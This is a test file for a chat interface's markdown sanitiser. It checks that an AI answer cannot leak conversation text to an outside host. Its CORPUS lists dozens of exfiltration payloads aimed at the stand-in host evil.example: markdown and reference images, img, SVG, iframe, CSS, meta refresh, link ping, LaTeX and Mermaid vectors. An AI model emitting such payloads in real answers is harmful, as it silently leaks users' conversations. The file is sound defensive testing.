import { describe, expect, test } from "vitest";

import { splitBlocks } from "./blocks";
import { sanitise } from "./sanitise";

/**
 * Ways in which an answer could carry words of the conversation to a host of its choice without
 * anybody pressing anything. Each must end as text: no element that fetches, and no attribute
 * that names an address except the `href` of a link, which asks before it leads away.
 */
const CORPUS: [name: string, markdown: string][] = [
  ["a picture", "![a](https://evil.example/?q=SECRET)"],
  ["a picture without words", "![](https://evil.example/?q=SECRET)"],
  ["a picture with a title", '![a](https://evil.example/?q=SECRET "t")'],
  ["a picture in pointed brackets", "![a](<https://evil.example/?q=SECRET>)"],
  ["a picture with white space around", "![a]( \n https://evil.example/?q=SECRET \n )"],
  ["a picture by reference", "![a][r]\n\n[r]: https://evil.example/?q=SECRET"],
  ["a picture by collapsed reference", "![r][]\n\n[r]: https://evil.example/?q=SECRET"],
  ["a picture by shortcut reference", "![r]\n\n[r]: https://evil.example/?q=SECRET"],
  ["a picture of a protocol-relative address", "![a](//evil.example/?q=SECRET)"],
  ["a picture of a backslash address", "![a](\\\\evil.example\\SECRET)"],
  ["a picture of this server", "![a](/v1/session?q=SECRET)"],
  ["a picture through a proxy of this server", "![a](/proxy?url=https://evil.example/SECRET)"],
  ["a picture of a data address", "![a](data:image/svg+xml;base64,PHN2Zy8+)"],
  ["a picture of a blob address", "![a](blob:https://evil.example/SECRET)"],
  ["a picture of another scheme", "![a](ftp://evil.example/SECRET)"],
  ["a picture in a link", "[![a](https://evil.example/SECRET)](https://evil.example)"],
  ["a picture in a table", "| a |\n|--|\n| ![a](https://evil.example/SECRET) |"],
  ["a picture in a heading", "# ![a](https://evil.example/SECRET)"],
  ["a picture in a picture's words", "![![b](https://evil.example/SECRET)](https://evil.example/a)"],
  ["an img element", '<img src="https://evil.example/SECRET">'],
  ["an img element with srcset", '<img srcset="https://evil.example/SECRET 1x">'],
  ["an img element in capitals over lines", '<IMG\nSRC="https://evil.example/SECRET"\n/>'],
  ["a picture element", '<picture><source srcset="//evil.example/SECRET"></picture>'],
  ["an image in SVG", '<svg><image href="https://evil.example/SECRET"/></svg>'],
  ["a use in SVG", '<svg><use xlink:href="https://evil.example/SECRET#a"/></svg>'],
  ["a foreign object", '<svg><foreignObject><img src="//evil.example"></foreignObject></svg>'],
  ["a video with a poster", '<video poster="https://evil.example/SECRET"></video>'],
  ["a sound", '<audio src="https://evil.example/SECRET" autoplay></audio>'],
  ["an input of the type image", '<input type="image" src="https://evil.example/SECRET">'],
  ["a frame", '<iframe src="https://evil.example/SECRET"></iframe>'],
  ["an object", '<object data="https://evil.example/SECRET"></object>'],
  ["an embed", '<embed src="https://evil.example/SECRET">'],
  ["a style sheet", '<link rel="stylesheet" href="https://evil.example/SECRET">'],
  ["a prefetch", '<link rel="dns-prefetch" href="https://SECRET.evil.example">'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/SECRET">'],
  ["a base", '<base href="https://evil.example/">'],
  ["a form that sends itself", '<form action="https://evil.example"><input autofocus></form>'],
  ["a background by attribute", '<table background="https://evil.example/SECRET"></table>'],
  ["a background by style", '<p style="background:url(https://evil.example/SECRET)">a</p>'],
  ["a style element", "<style>@import url(https://evil.example/SECRET);</style>"],
  ["a ping of a link", '<a href="https://a.example" ping="https://evil.example/SECRET">a</a>'],
  ["a link of LaTeX", "$\\href{https://evil.example/SECRET}{a}$"],
  ["a picture of LaTeX", "$$\\includegraphics{https://evil.example/SECRET}$$"],
  ["a click of Mermaid", '```mermaid\ngraph TD\nclick A "https://evil.example/SECRET"\n```'],
  ["a style of Mermaid", "```mermaid\n%%{init: {'themeCSS': '@import url(//evil.example)'}}%%\n```"],
  ["an address alone", "https://evil.example/SECRET"],
  ["a script", "<script src=https://evil.example/SECRET></script>"],
];

const ATTRIBUTES = new Set(["class", "dir", "href", "rel", "start", "target"]);
const ELEMENTS = new Set(
  ("A,BDI,BLOCKQUOTE,BR,CODE,DEL,DIV,EM,H1,H2,H3,H4,H5,H6,HR,LI,OL,P,PRE,S,SPAN,STRONG,TABLE," +
    "TBODY,TD,TH,THEAD,TR,UL").split(","),
);

function pageOf(source: string): HTMLElement {
  const page = document.createElement("div");
  for (const block of splitBlocks(source)) {
    const part = document.createElement("div");
    if (block.kind === "code") part.textContent = block.text;
    else part.innerHTML = sanitise(block.html);
    page.append(part);
  }
  return page;
}

describe("nothing leaves by itself", () => {
  test.each(CORPUS)("%s", (_name, markdown) => {
    for (const element of pageOf(markdown).querySelectorAll("*")) {
      expect(ELEMENTS, element.outerHTML).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(ATTRIBUTES, element.outerHTML).toContain(name);
        if (name !== "href") expect(value, element.outerHTML).not.toContain("evil");
        else expect([element.tagName, value]).toEqual(["A", expect.stringMatching(/^https?:\/\//u)]);
      }
    }
  });

  test("the words and the host of a picture stay, its address does not", () => {
    const { textContent } = pageOf("![a](https://evil.example/?q=SECRET)");
    expect(textContent).toContain("evil.example");
    expect(textContent).not.toContain("SECRET");
  });
});
